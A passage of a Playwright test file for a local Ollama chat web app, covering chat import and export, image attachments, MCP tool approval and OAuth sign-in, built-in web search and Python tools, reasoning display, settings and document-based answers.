  assert.deepEqual(exported.messages.map((message: any) => message.content), ['Plan a trip', 'You said: Plan a trip'])
  const asMarkdown = await read('#export-markdown')
  assert.equal(asMarkdown.name, 'Plan a trip.md')
  assert.match(asMarkdown.text, /^# Plan a trip\n\n## User\n\nPlan a trip\n/)
  const all = await read('#export-all')
  assert.equal(all.text.trim().split('\n').length, 1)

  const chatGpt = [{
    id: 'cg-1', title: 'From ChatGPT', create_time: 1_700_000_000, current_node: 'a',
    mapping: {
      q: { id: 'q', parent: null, children: ['a'], message: { author: { role: 'user' }, create_time: 1_700_000_001, content: { content_type: 'text', parts: ['Hello there'] } } },
      a: { id: 'a', parent: 'q', children: [], message: { author: { role: 'assistant' }, create_time: 1_700_000_002, content: { content_type: 'text', parts: ['General Kenobi'] } } },
    },
  }]
  await page.setInputFiles('#import-file', { name: 'conversations.json', mimeType: 'application/json', buffer: Buffer.from(JSON.stringify(chatGpt)) })
  await page.waitForFunction(() => (globalThis as any).document.querySelector('#import-result')?.textContent === 'Imported 1 chat.')
  await page.waitForFunction(() => [...(globalThis as any).document.querySelectorAll('#session-list button')].some((button: any) => button.textContent === 'From ChatGPT'))
  // The next export of the same chat, grown by a turn: brought up to date, not skipped.
  const grown = structuredClone(chatGpt) as any
  grown[0].current_node = 'a2'
  grown[0].mapping.a.children = ['q2']
  grown[0].mapping.q2 = { id: 'q2', parent: 'a', children: ['a2'], message: { author: { role: 'user' }, create_time: 1_700_000_003, content: { content_type: 'text', parts: ['Hello again'] } } }
  grown[0].mapping.a2 = { id: 'a2', parent: 'q2', children: [], message: { author: { role: 'assistant' }, create_time: 1_700_000_004, content: { content_type: 'text', parts: ['You are a bold one'] } } }
  await page.setInputFiles('#import-file', { name: 'conversations.json', mimeType: 'application/json', buffer: Buffer.from(JSON.stringify(grown)) })
  await page.waitForFunction(() => (globalThis as any).document.querySelector('#import-result')?.textContent === 'Imported 0 chats; 1 brought up to date (2 new messages).')
  // "Export all" written back: JSON Lines, each chat already here.
  await page.setInputFiles('#import-file', { name: 'chat-ollama-export.jsonl', mimeType: 'application/x-ndjson', buffer: Buffer.from(all.text) })
  await page.waitForFunction(() => (globalThis as any).document.querySelector('#import-result')?.textContent === 'Imported 0 chats; 1 already here.')
  await page.screenshot({ path: `${SCREENSHOTS}/import.png` })
  await assertAccessible(page, 'an import')
  // Each unreadable conversation is named with its place in the file and why.
  const unreadable = [{ format: 'chat-ollama.conversation', version: 2 }, { id: 'cg-empty', mapping: {} }]
  await page.setInputFiles('#import-file', { name: 'broken.json', mimeType: 'application/json', buffer: Buffer.from(JSON.stringify(unreadable)) })
  await page.waitForFunction(() => /^Imported 0 chats; 2 unreadable: /.test((globalThis as any).document.querySelector('#import-result')?.textContent ?? ''))
  assert.equal(await page.textContent('#import-result'), 'Imported 0 chats; 2 unreadable: #1 version 2 of chat-ollama.conversation is not known; #2 no message with text or images.')
})

test('images on the page: attach with the button, paste and drop, remove one, send; thumbnails in the chat open the image; a model that cannot see keeps them; an edit keeps them', { skip }, async (t) => {
  const fake = await new FakeOllama({ models: ['llama3.2:latest', 'gemma3:4b'], capabilities: { 'gemma3:4b': ['completion', 'vision'] } }).listen()
  t.after(() => fake.close())
  const { page } = await openPage(t, fake)
  await page.waitForSelector('#model option[value="gemma3:4b"]', { state: 'attached' })
  const files = { red: pngFile(40, 20), blue: pngFile(30, 30), green: pngFile(20, 40) }
  // The button.
  await page.setInputFiles('#attach', { name: 'red.png', mimeType: 'image/png', buffer: files.red })
  await page.waitForFunction(() => (globalThis as any).document.querySelectorAll('#attachments img').length === 1)
  // Paste into the message box, and a drop onto the composer.
  const fileEvent = (type: string, target: string, name: string, bytes: Buffer) => page.evaluate(({ type, target, name, base64 }) => {
    const doc = (globalThis as any).document
    const data = new (globalThis as any).DataTransfer()
    data.items.add(new (globalThis as any).File([Uint8Array.from((globalThis as any).atob(base64), (c: string) => c.charCodeAt(0))], name, { type: 'image/png' }))
    const init = { bubbles: true, cancelable: true, [type === 'paste' ? 'clipboardData' : 'dataTransfer']: data }
    doc.querySelector(target).dispatchEvent(type === 'paste' ? new (globalThis as any).ClipboardEvent('paste', init) : new (globalThis as any).DragEvent(type, init))
  }, { type, target, name, base64: bytes.toString('base64') })
  await fileEvent('paste', '#input', 'blue.png', files.blue)
  await fileEvent('drop', '#composer', 'green.png', files.green)
  await page.waitForFunction(() => (globalThis as any).document.querySelectorAll('#attachments img').length === 3)
  await page.click('#attachments li:nth-child(2) button')
  await page.waitForFunction(() => (globalThis as any).document.querySelectorAll('#attachments img').length === 2)

  // A model that cannot see: refused, and the images stay for another try.
  await page.selectOption('#model', 'llama3.2:latest')
  await sendMessage(page, 'What colours?')
  await page.waitForFunction(() => /cannot see images/.test((globalThis as any).document.querySelector('#error')?.textContent ?? ''))
  // The images come back once the refused send has put the question back too.
  await page.waitForFunction(() => (globalThis as any).document.querySelector('#input').value === 'What colours?')
  await page.waitForFunction(() => (globalThis as any).document.querySelectorAll('#attachments img').length === 2)
  assert.equal(await page.inputValue('#input'), 'What colours?', 'the question is back in the box')
  assert.equal(await page.locator('.message').count(), 0, 'nothing was stored, nothing is shown')
  assert.equal(fake.chatRequests().length, 0)

  await page.selectOption('#model', 'gemma3:4b')
  await page.press('#input', 'Enter')
  await page.waitForFunction(() => (globalThis as any).document.querySelector('.message.assistant:last-child')?.getAttribute('data-status') === 'complete')
  assert.equal(await page.isVisible('#attachments'), false)
  assert.equal(await page.locator('.message.user').count(), 1)
  assert.deepEqual(fake.chatRequests().at(-1)!.body.messages.map((message: any) => message.images?.length ?? 0), [2])
  await page.screenshot({ path: `${SCREENSHOTS}/images.png` })
  await assertAccessible(page, 'images')

  // After a reload the thumbnails come from the server; a click opens the image itself.
  await page.reload()
  await page.waitForSelector('.message.user .images img')
  await page.waitForFunction(() => [...(globalThis as any).document.querySelectorAll('.message.user .images img')].every((image: any) => image.complete && image.naturalWidth > 0))
  const sizes = await page.$$eval('.message.user .images img', (images: any[]) => images.map((image) => [image.naturalWidth, image.naturalHeight]))
  assert.deepEqual(sizes, [[40, 20], [20, 40]])
  const [opened] = await Promise.all([page.context().waitForEvent('page'), page.click('.message.user .images a >> nth=0')])
  await opened.waitForLoadState()
  assert.match(opened.url(), /\/v1\/attachments\/[0-9a-f-]{36}$/)
  await opened.close()

  // An edit keeps the question's images, on the page and for the model (a vision model again: the reload reset the choice).
  await page.selectOption('#model', 'gemma3:4b')
  await page.click('.message.user [data-action="edit"]')
  await page.fill('.message.user .edit textarea', 'Which colour is brighter?')
  await page.click('.message.user .edit button[type="submit"]')
  await page.waitForFunction(() => (globalThis as any).document.querySelector('.message.user .body')?.textContent === 'Which colour is brighter?')
  await page.waitForFunction(() => (globalThis as any).document.querySelector('.message.assistant:last-child')?.getAttribute('data-status') === 'complete')
  assert.equal(await page.locator('.message.user .images img').count(), 2)
  assert.deepEqual(fake.chatRequests().at(-1)!.body.messages.map((message: any) => message.images?.length ?? 0), [2])
})

test('tools on the page: the switch offers them; calls fold under the reply with their result and time; Approve and Deny answer a waiting call; all of it after a reload', { skip }, async (t) => {
  const fake = await startedFake(t)
  const mcp = await startMcpHttpServer(t, 'page-token')
  const config = join(mkdtempSync(join(tmpdir(), 'chat-ollama-mcp-')), 'mcp.json')
  writeFileSync(config, JSON.stringify({ mcpServers: { calc: { url: mcp.url, headers: { authorization: 'Bearer page-token' }, tools: { add: 'auto', search: 'ask', delete_all: 'deny' } } } }))
  const { page } = await openPage(t, fake, undefined, { MCP_CONFIG: config })
  await page.waitForSelector('#tools-switch:not([hidden])')
  await page.check('#use-tools')
  const replyDone = (index: number) => page.waitForFunction((at) => ['complete', 'awaiting_approval'].includes((globalThis as any).document.querySelectorAll('.message.assistant')[at]?.getAttribute('data-status')), index)

  // An auto tool: its call folds above the answer, with its arguments, result and time.
  await sendMessage(page, 'Add [[call calc__add {"a":2,"b":3}]]')
  await replyDone(0)
  const first = lastReply(page)
  assert.equal(await first.locator('.step-text').innerText(), 'Let me check.')
  assert.equal(await first.locator('.tool-call .tool-name').innerText(), 'calc__add')
  assert.match(await first.locator('.tool-call .tool-outcome').innerText(), /^done, \d+ ms$/)
  assert.equal(await first.locator('.tool-call .tool-result').textContent(), '5')
  assert.equal(await first.locator('.body').innerText(), 'The tools said: 5')
  assert.deepEqual(fake.chatRequests()[0]!.body.tools.map((tool: any) => tool.function.name), ['calc__add', 'calc__search', 'calc__slow', 'calc__fail', 'calc__big', 'calc__chart', 'calc__steps', 'calc__ask'])

  // An ask tool: the reply waits with Approve / Deny; Approve runs it and the reply goes on.
  await sendMessage(page, 'Find [[call calc__search {"query":"<b>cats</b>"}]]')
  await page.waitForSelector('.message.assistant >> nth=1 >> .approval button:has-text("Approve")')
  // The buttons come with approval_required; the reply's status with the done that follows.
  await page.waitForFunction(() => (globalThis as any).document.querySelectorAll('.message.assistant')[1]?.getAttribute('data-status') === 'awaiting_approval')
  assert.equal(mcp.calls.length, 1, 'not run before it is approved')
  await page.screenshot({ path: `${SCREENSHOTS}/tool-approval.png` })
  await assertAccessible(page, 'a tool call waiting for approval')
  await page.click('.message.assistant >> nth=1 >> .approval button:has-text("Approve")')
  await page.waitForFunction(() => (globalThis as any).document.querySelectorAll('.message.assistant')[1]?.getAttribute('data-status') === 'complete')
  assert.match(await page.locator('.message.assistant >> nth=1 >> .body').innerText(), /^The tools said: search: /)
  assert.equal(await page.locator('.message.assistant >> nth=1 >> .tool-result').textContent(), 'search: <b>cats</b>')
  assert.equal(await page.locator('.message.assistant >> nth=1 >> .tool-calls b').count(), 0, 'a call\'s arguments and result are text, never HTML')
  assert.equal(await lastReply(page).locator('.approval').count(), 0)

  // Deny: the tool does not run, and the model is told.
  await sendMessage(page, 'Again [[call calc__search {"query":"dogs"}]]')
  await page.click('.message.assistant >> nth=2 >> .approval button:has-text("Deny")')
  await page.waitForFunction(() => /Denied: the user did not allow this call/.test((globalThis as any).document.querySelectorAll('.message.assistant')[2]?.querySelector('.body')?.textContent ?? ''))
  assert.deepEqual(mcp.calls.map((call) => call.arguments), [{ a: 2, b: 3 }, { query: '<b>cats</b>' }], 'the denied call never ran')

  // After a reload: the same, from the store; a call that waits shows its buttons again.
  await sendMessage(page, 'Once more [[call calc__search {"query":"birds"}]]')
  await page.waitForSelector('.message.assistant >> nth=3 >> .approval')
  await page.reload()
  await page.waitForSelector('.message.assistant >> nth=3 >> .approval button:has-text("Approve")')
  assert.equal(await page.locator('.message.tool').count(), 0, 'tool messages fold under their reply')
  assert.equal(await page.locator('.message.assistant').count(), 4)
  assert.deepEqual(await page.locator('.message.assistant >> nth=0 >> .tool-result').allTextContents(), ['5'])
  assert.equal(await page.locator('.message.assistant >> nth=0 >> .body').innerText(), 'The tools said: 5')
  await page.click('.message.assistant >> nth=3 >> .approval button:has-text("Approve")')
  await page.waitForFunction(() => (globalThis as any).document.querySelectorAll('.message.assistant')[3]?.querySelector('.body')?.textContent.trim() === 'The tools said: search: birds')

  // The switch off: no tools are offered.
  await page.uncheck('#use-tools')
  await sendMessage(page, 'Plain question')
  await page.waitForFunction(() => (globalThis as any).document.querySelectorAll('.message.assistant')[4]?.getAttribute('data-status') === 'complete')
  assert.equal(fake.chatRequests().at(-1)!.body.tools, undefined)
})

/** The page with the test MCP server as `calc` (every tool `auto`) and the tools switch on. */
async function pageWithTools(t: TestContext) {
  const fake = await startedFake(t)
  const mcp = await startMcpHttpServer(t, 'page-token')
  const config = join(mkdtempSync(join(tmpdir(), 'chat-ollama-mcp-')), 'mcp.json')
  writeFileSync(config, JSON.stringify({ mcpServers: { calc: { url: mcp.url, headers: { authorization: 'Bearer page-token' }, default: 'auto' } } }))
  const { page } = await openPage(t, fake, undefined, { MCP_CONFIG: config })
  await page.waitForSelector('#tools-switch:not([hidden])')
  await page.check('#use-tools')
  return { page, mcp }
}

test('a long tool call shows its progress on its line until its result replaces it', { skip }, async (t) => {
  const { page, mcp } = await pageWithTools(t)
  await sendMessage(page, 'Count [[call calc__steps {"steps":1,"hold":true}]]')
  await page.waitForFunction(() => (globalThis as any).document.querySelector('.tool-call .tool-outcome')?.textContent === 'running: 100% (1 of 1), Step 1 of 1')
  await assertAccessible(page, 'a tool call with its progress')
  mcp.release()
  await page.waitForFunction(() => (globalThis as any).document.querySelector('.message.assistant')?.getAttribute('data-status') === 'complete')
  assert.match(await lastReply(page).locator('.tool-call .tool-outcome').innerText(), /^done, [\d.]+ m?s$/)
  assert.equal(await lastReply(page).locator('.tool-call .tool-result').textContent(), '1 steps done')
})

test('a tool result with an image and a resource link: the image under the call, the address a link that opens apart; the same after a reload', { skip }, async (t) => {
  const { page } = await pageWithTools(t)
  await sendMessage(page, 'Plot [[call calc__chart {}]]')
  await page.waitForFunction(() => (globalThis as any).document.querySelector('.message.assistant')?.getAttribute('data-status') === 'complete')
  const check = async (when: string) => {
    const call = lastReply(page).locator('.tool-call')
    const image = call.locator('.images img.thumbnail')
    await image.waitFor()
    // Attached is not loaded: its width is read once it has loaded (0 if it failed to).
    const width = await image.evaluate((element: any) =>
      element.complete
        ? element.naturalWidth
        : new Promise((resolve) => {
            element.addEventListener('load', () => resolve(element.naturalWidth))
            element.addEventListener('error', () => resolve(0))
          }),
    )
    assert.equal(width, 96, `${when}: the image loaded`)
    const link = call.locator('.tool-result a')
    assert.equal(await link.getAttribute('href'), 'https://reports.example.com/sales.csv', when)
    assert.equal(await link.getAttribute('rel'), 'noopener noreferrer nofollow')
    assert.match(await call.locator('.tool-result').innerText(), /\[image 1 \(image\/png, 96×64\): shown to the user, not to you\]/)
  }
  await check('live')
  await page.screenshot({ path: `${SCREENSHOTS}/tool-image.png` })
  await assertAccessible(page, 'a tool result with an image')
  await page.reload()
  await page.waitForSelector('body[data-ready]')
  await check('after a reload')
})

test('an MCP server that waits for an OAuth sign-in: an admin sees it, signs in from the page in a new tab, and its tools come', { skip }, async (t) => {
  const fake = await startedFake(t)
  const oauth = await startOAuthServer(t)
  const mcp = await startMcpHttpServer(t, { oauth, scopes: ['tools'] })
  const config = join(mkdtempSync(join(tmpdir(), 'chat-ollama-mcp-')), 'mcp.json')
  writeFileSync(config, JSON.stringify({ mcpServers: { notes: { url: mcp.url, default: 'auto' } } }))
  const { page } = await openPage(t, fake, undefined, { MCP_CONFIG: config, MCP_OAUTH_KEY: 'a'.repeat(64) })
  const note = page.locator('#tool-sign-in')
  await note.getByRole('button', { name: 'Sign in to notes' }).waitFor()
  assert.equal(await page.isHidden('#tools-switch'), true, 'no tool is offered before the sign-in')
  await assertAccessible(page, 'a server waiting for a sign-in')
  const opened = page.context().waitForEvent('page')
  await note.getByRole('button', { name: 'Sign in to notes' }).click()
  const tab = await opened
  await tab.waitForURL(/\/v1\/mcp\/oauth\/callback/)
  assert.match(await tab.locator('body').innerText(), /notes is signed in/)
  await tab.close()
  // Back in front: the page lists the servers again.
  await page.bringToFront()
  await page.evaluate(() => (globalThis as any).dispatchEvent(new Event('focus')))
  await page.waitForSelector('#tools-switch:not([hidden])')
  assert.equal(await note.isHidden(), true)
})

test('a tool that asks for input mid-call: its form under the call, filled in and sent; Decline answers too; the form goes once answered', { skip }, async (t) => {
  const { page, mcp } = await pageWithTools(t)
  await sendMessage(page, 'Plan [[call calc__ask {"what":"city"}]]')
  const form = page.locator('.tool-call .tool-input')
  await form.waitFor()
  assert.equal(await form.locator('.input-message').innerText(), 'Which city?')
  assert.equal(await page.locator('.tool-call .tool-outcome').innerText(), 'waiting for your input')
  assert.equal(await form.getByLabel('How many').inputValue(), '2', 'defaults are filled in')
  assert.equal(await form.getByLabel('Sure').isChecked(), true)
  await form.getByLabel('Name *').fill('Lisbon')
  await form.getByLabel('Colour').selectOption('green')
  await page.screenshot({ path: `${SCREENSHOTS}/tool-input.png` })
  await assertAccessible(page, 'a tool asking for input')
  await form.getByRole('button', { name: 'Submit' }).click()
  await page.waitForFunction(() => (globalThis as any).document.querySelector('.message.assistant')?.getAttribute('data-status') === 'complete')
  assert.equal(await page.locator('.tool-input').count(), 0)
  assert.equal(await lastReply(page).locator('.tool-call .tool-result').textContent(), 'city: {"name":"Lisbon","count":2,"colour":"green","sure":true}')

  await sendMessage(page, 'Plan [[call calc__ask {"what":"day"}]]')
  await page.locator('.tool-input').waitFor()
  await page.locator('.tool-input').getByRole('button', { name: 'Decline' }).click()
  await page.waitForFunction(() => (globalThis as any).document.querySelectorAll('.message.assistant')[1]?.getAttribute('data-status') === 'complete')
  assert.equal(await lastReply(page).locator('.tool-call .tool-result').textContent(), 'day: decline')
  assert.deepEqual(mcp.answers.map((answer) => answer.action), ['accept', 'decline'])
})

test('built-in tools on the page: web results list under the answer as sources with their site, linked; a Python call folds with its code and output; the same after a reload', { skip }, async (t) => {
  const fake = await startedFake(t)
  const web = await startFakeWeb(t)
  const config = join(mkdtempSync(join(tmpdir(), 'chat-ollama-builtin-')), 'mcp.json')
  writeFileSync(config, JSON.stringify({ builtin: { tools: { web_search: 'auto', run_python: 'auto' } } }))
  const { page } = await openPage(t, fake, undefined, { MCP_CONFIG: config, WEB_SEARCH_URL: web.url })
  await page.waitForSelector('#tools-switch:not([hidden])')
  await page.check('#use-tools')
  await sendMessage(page, 'Who runs models? [[call web_search {"query":"ollama","max_results":2}]] [[call run_python {"code":"for n in range(3): print(n * n)"}]]')
  await page.waitForFunction(() => (globalThis as any).document.querySelector('.message.assistant:last-child')?.getAttribute('data-status') === 'complete')
  const check = async () => {
    const reply = lastReply(page)
    const sources = reply.locator('.sources li.web-source')
    assert.deepEqual(await sources.locator('a').allTextContents(), ['Ollama runs models', 'SQLite'])
    assert.deepEqual(await sources.locator('.site').allTextContents(), ['ollama.com', 'sqlite.org'])
    assert.equal(await sources.first().locator('a').getAttribute('href'), 'https://ollama.com/')
    assert.equal(await sources.first().locator('a').getAttribute('rel'), 'noopener noreferrer nofollow')
    assert.equal(await sources.first().locator('a').getAttribute('target'), '_blank')
    const python = reply.locator('details.tool-call', { has: page.locator('.tool-name', { hasText: 'run_python' }) })
    assert.equal(await python.getAttribute('open'), null, 'folded like any call')
    await python.locator('summary').click()
    assert.equal(await python.locator('.tool-arguments code.language-python').textContent(), 'for n in range(3): print(n * n)')
    assert.equal(await python.locator('.tool-result').textContent(), 'stdout:\n0\n1\n4')
  }
  await check()
  await page.screenshot({ path: `${SCREENSHOTS}/builtin-tools.png` })
  await assertAccessible(page, 'web sources and a Python call')
  await page.reload()
  await page.waitForSelector('.message.assistant .sources li.web-source')
  await check()
})

test('reasoning on the page: the think switch shows for a model that can think; thinking streams into a folded block above the answer, then "Thought for…"; the model and tokens/s under the reply; all of it after a reload', { skip }, async (t) => {
  const fake = await new FakeOllama({
    models: ['llama3.2:latest', 'qwen3:8b'],
    capabilities: { 'qwen3:8b': ['completion', 'tools', 'thinking'] },
    scenario: { paced: true, thinking: ['Let me ', 'count.'], tokens: ['Three', '.'] },
  }).listen()
  t.after(() => fake.close())
  const { page, server } = await openPage(t, fake)
  await page.waitForSelector('#model option[value="qwen3:8b"]', { state: 'attached' })
  assert.equal(await page.locator('#model option').first().textContent(), 'Default (llama3.2)')
  await page.selectOption('#model', 'qwen3:8b')
  await page.waitForSelector('#think-switch', { state: 'visible' })
  await page.selectOption('#model', '')
  await page.waitForSelector('#think-switch', { state: 'hidden' })
  await page.selectOption('#model', 'qwen3:8b')
  await page.waitForSelector('#think-switch', { state: 'visible' })

  await sendMessage(page, 'How many r in strawberry?')
  fake.release(2)
  // The reasoning so far, folded, while the answer has not begun.
  await page.waitForFunction(() => {
    const block = (globalThis as any).document.querySelector('.message.assistant details.thinking')
    return block?.querySelector('summary').textContent === 'Thinking…' && block.querySelector('.thinking-text').textContent === 'Let me count.'
  })
  assert.equal(await lastReply(page).locator('details.thinking').evaluate((block: any) => block.open), false)
  fake.release(10)
  await page.waitForFunction(() => (globalThis as any).document.querySelector('.message.assistant:last-child')?.getAttribute('data-status') === 'complete')
  assert.match(await lastReply(page).locator('details.thinking summary').innerText(), /^Thought for (less than a second|\d+ s)$/)
  assert.equal(await lastReply(page).locator('.body').innerText(), 'Three.')
  assert.match(await lastReply(page).locator('.figures').innerText(), /^qwen3:8b · \d+(\.\d)? tokens\/s$/)
  assert.equal(fake.chatRequests().at(-1)!.body.think, true)
  await lastReply(page).locator('details.thinking summary').click()
  assert.equal(await lastReply(page).locator('.thinking-text').isVisible(), true)
  await page.screenshot({ path: `${SCREENSHOTS}/reasoning.png` })
  await assertAccessible(page, 'a reply that thought')

  // Reopened: the stored reasoning and figures, the chat's model in the picker, its switch.
  await page.reload()
  await page.waitForSelector('.message.assistant details.thinking')
  assert.match(await lastReply(page).locator('details.thinking summary').innerText(), /^Thought for /)
  assert.equal(await lastReply(page).locator('.thinking-text').textContent(), 'Let me count.')
  assert.match(await lastReply(page).locator('.figures').innerText(), /^qwen3:8b · /)
  await page.waitForSelector('#think-switch', { state: 'visible' })
  assert.equal(await page.inputValue('#model'), 'qwen3:8b')

  // Switched off, it is the chat's setting from now on, and the next turn does not think.
  const sessionId = new URL(page.url()).hash.slice(1)
  const saved = page.waitForResponse((response) => response.request().method() === 'PATCH')
  await page.uncheck('#think')
  await saved
  const session = await (await fetch(`${server.url}/v1/sessions/${sessionId}`)).json() as { think: unknown; model: string }
  assert.deepEqual([session.think, session.model], [false, 'qwen3:8b'])
  fake.scenario = { tokens: ['Three', '.'] }
  await sendMessage(page, 'Again?')
  await page.waitForFunction(() => (globalThis as any).document.querySelectorAll('.message.assistant[data-status="complete"]').length === 2)
  assert.equal(fake.chatRequests().at(-1)!.body.think, false)
})

test('chat settings on the page: the Settings dialog changes the system prompt, temperature, context length and thinking for the next turn; a model chosen in a chat is kept with it', { skip }, async (t) => {
  const fake = await new FakeOllama({ models: ['llama3.2:latest', 'gemma3:4b'] }).listen()
  t.after(() => fake.close())
  const { page, server } = await openPage(t, fake)
  assert.equal(await page.isDisabled('#settings'), true, 'a new chat has no settings yet')
  await sendMessage(page, 'Bonjour?')
  await page.waitForFunction(() => (globalThis as any).document.querySelector('.message.assistant:last-child')?.getAttribute('data-status') === 'complete')
  await page.waitForSelector('#settings:not([disabled])')

  await page.click('#settings')
  await page.fill('#settings-system', 'Answer in French.')
  await page.fill('#settings-temperature', '0.4')
  await page.fill('#settings-context', '8192')
  await page.selectOption('#settings-think', 'false')
  const saved = page.waitForResponse((response) => response.request().method() === 'PATCH')
  // Enter saves (Save is the form's first button).
  await page.press('#settings-context', 'Enter')
  assert.equal((await saved).status(), 200)
  await sendMessage(page, 'Et maintenant?')
  await page.waitForFunction(() => (globalThis as any).document.querySelectorAll('.message.assistant[data-status="complete"]').length === 2)
  const sent = fake.chatRequests().at(-1)!.body
  assert.deepEqual([sent.messages[0], sent.options.temperature, sent.options.num_ctx, sent.think], [{ role: 'system', content: 'Answer in French.' }, 0.4, 8192, false])

  // A model chosen in the chat is kept with it: reopened, the picker shows it and the chat uses it.
  const modelSaved = page.waitForResponse((response) => response.request().method() === 'PATCH')
  await page.selectOption('#model', 'gemma3:4b')
  await modelSaved
  await page.reload()
  await page.waitForSelector('.message.assistant')
  await page.waitForFunction(() => (globalThis as any).document.querySelector('#model').value === 'gemma3:4b')
  await page.click('#settings')
  assert.deepEqual([await page.inputValue('#settings-system'), await page.inputValue('#settings-temperature'), await page.inputValue('#settings-context'), await page.inputValue('#settings-think')], ['Answer in French.', '0.4', '8192', 'false'])
  await page.click('#settings-dialog button[data-close]')
  const sessionId = new URL(page.url()).hash.slice(1)
  const session = await (await fetch(`${server.url}/v1/sessions/${sessionId}`)).json() as { model: string; system: string }
  assert.deepEqual([session.model, session.system], ['gemma3:4b', 'Answer in French.'])
})

test('documents on the page: upload in the Documents dialog, watch it become ready, use it in a chat; the reply lists its sources, linked, after a reload too; a collection made of checked files', { skip }, async (t) => {
  const fake = await new FakeOllama({ models: ['llama3.2:latest', 'nomic-embed-text:latest'] }).listen()
  t.after(() => fake.close())
  const { page, server } = await openPage(t, fake)
  const folder = mkdtempSync(join(tmpdir(), 'chat-ollama-page-docs-'))
  const handbook = join(folder, 'handbook.md')
  writeFileSync(handbook, '# Handbook\n\n## Leave\n\nEvery employee has 25 days of paid leave a year.\n\n## Expenses\n\nReceipts are filed within 30 days.\n')
  await page.click('#documents')
  await page.waitForSelector('#documents-dialog[open]')
  await page.setInputFiles('#documents-upload', handbook)
  // Read and embedded in the background: the row says so once it is.
  const row = page.locator('#documents-files li', { hasText: 'handbook.md' })
  await row.locator('.state', { hasText: 'Ready' }).waitFor()
  assert.equal(await row.locator('input[type=checkbox]').isChecked(), true)
  await page.screenshot({ path: `${SCREENSHOTS}/documents.png` })
  await assertAccessible(page, 'the Documents dialog')
  await page.click('#documents-ok')
  await page.waitForSelector('#documents-chip:not([hidden])')
  assert.equal(await page.locator('#documents-chip').innerText(), 'Answers from: handbook.md')

  await sendMessage(page, 'How many days of paid leave?')
  await page.waitForFunction(() => (globalThis as any).document.querySelector('.message.assistant:last-child')?.getAttribute('data-status') === 'complete')
  const sources = lastReply(page).locator('ol.sources li')
  assert.equal(await sources.first().innerText(), 'handbook.md (Handbook > Leave)')
  const link = sources.first().locator('a')
  const download = await Promise.all([page.waitForEvent('download'), link.click()]).then(([event]) => event)
  assert.equal(download.suggestedFilename(), 'handbook.md')
  // The model was given the file's chunks as numbered sources.
  assert.match(fake.chatRequests().at(-1)!.body.messages.at(-2).content, /\[1\] handbook\.md, Handbook > Leave/)

  // Reloaded: the chat keeps its documents, and the reply its sources.
  await page.reload()
  await page.waitForSelector('.message.assistant ol.sources')
  assert.equal(await page.locator('#documents-chip').innerText(), 'Answers from: handbook.md')
  assert.equal(await lastReply(page).locator('ol.sources li').first().innerText(), 'handbook.md (Handbook > Leave)')

  // A collection of the checked files; unchecking the file and using the collection saves on the chat.
  await page.click('#documents')
  await row.locator('.state', { hasText: 'Ready' }).waitFor()
  await page.fill('#documents-collection-name', 'Policies')
  await page.click('#documents-collection-create')
  await page.locator('#documents-collections li', { hasText: 'Policies' }).waitFor()
  assert.match(await page.locator('#documents-collections li', { hasText: 'Policies' }).innerText(), /1 file/)
  await row.locator('input[type=checkbox]').uncheck()
  await page.click('#documents-ok')
  await page.waitForFunction(() => (globalThis as any).document.querySelector('#documents-chip').textContent === 'Answers from: Policies')
  const sessionId = new URL(page.url()).hash.slice(1)
  await page.waitForFunction(async (id) => ((await (await fetch(`/v1/sessions/${id}`)).json()) as any).collections.length === 1, sessionId)
  const session = await json(await fetch(`${server.url}/v1/sessions/${sessionId}`))
  assert.deepEqual([session.files, session.collections.length], [[], 1])
})
